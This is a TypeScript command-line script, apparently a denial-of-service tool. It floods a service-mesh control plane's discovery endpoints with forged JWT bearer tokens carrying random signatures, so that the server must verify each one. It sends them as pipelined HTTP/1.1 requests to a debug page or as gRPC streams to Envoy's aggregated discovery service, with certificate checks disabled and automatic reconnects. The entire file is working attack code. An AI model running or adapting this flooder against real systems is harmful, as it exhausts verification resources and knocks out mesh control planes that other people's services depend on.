/**
 * A program that floods discovery with forged tokens, each of which has to be verified: at the pages over HTTP/1.1, or in streams over TLS.
 * `node token-flood.ts <http|grpc> <host> <port> <connections> <issuer> <kid> <algorithm>`. It ends with the process that started it.
 */
import { randomBytes } from 'node:crypto'
import { type ClientHttp2Session, connect as connectHttp2 } from 'node:http2'
import { connect } from 'node:net'

const [way = '', host = '', port = '', connections = '1', iss = '', kid = '', alg = ''] = process.argv.slice(2)
const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url')
const unsigned = `${part({ alg, kid })}.${part({ iss, aud: 'mesh-ca', sub: 'system:serviceaccount:shop:cart', exp: 9e9 })}`
const forged = () => `${unsigned}.${randomBytes(alg === 'RS256' ? 256 : 64).toString('base64url')}`
const page = () => `GET /debug/syncz HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${forged()}\r\n\r\n`

function floodPages(): void {
  const socket = connect(Number(port), host)
  let isClosed = false
  const more = () => {
    for (let times = 0; times < 200 && !isClosed; times++) if (!socket.write(Array.from({ length: 50 }, page).join(''))) return
    if (!isClosed) setImmediate(more)
  }
  socket
    .on('connect', more)
    .on('drain', more)
    .on('error', () => undefined)
    .resume()
  socket.on('close', () => {
    isClosed = true
    setTimeout(floodPages, 50)
  })
}

function floodStreams(): void {
  const session = connectHttp2(`https://${host}:${port}`, { rejectUnauthorized: false })
  session.on('error', () => undefined).on('close', () => setTimeout(floodStreams, 50))
  session.on('connect', () => {
    for (let index = 0; index < 90; index++) ask(session)
  })
}

function ask(session: ClientHttp2Session): void {
  if (session.closed || session.destroyed) return
  const path = '/envoy.service.discovery.v3.AggregatedDiscoveryService/StreamAggregatedResources'
  const headers = { ':method': 'POST', ':path': path, 'content-type': 'application/grpc', te: 'trailers', authorization: `Bearer ${forged()}` }
  const stream = session.request(headers)
  stream
    .on('error', () => undefined)
    .on('close', () => ask(session))
    .resume()
    .end()
}

process.stdin.on('end', () => process.exit()).resume()
for (let index = 0; index < Number(connections); index++) {
  if (way === 'http') floodPages()
  else floodStreams()
}
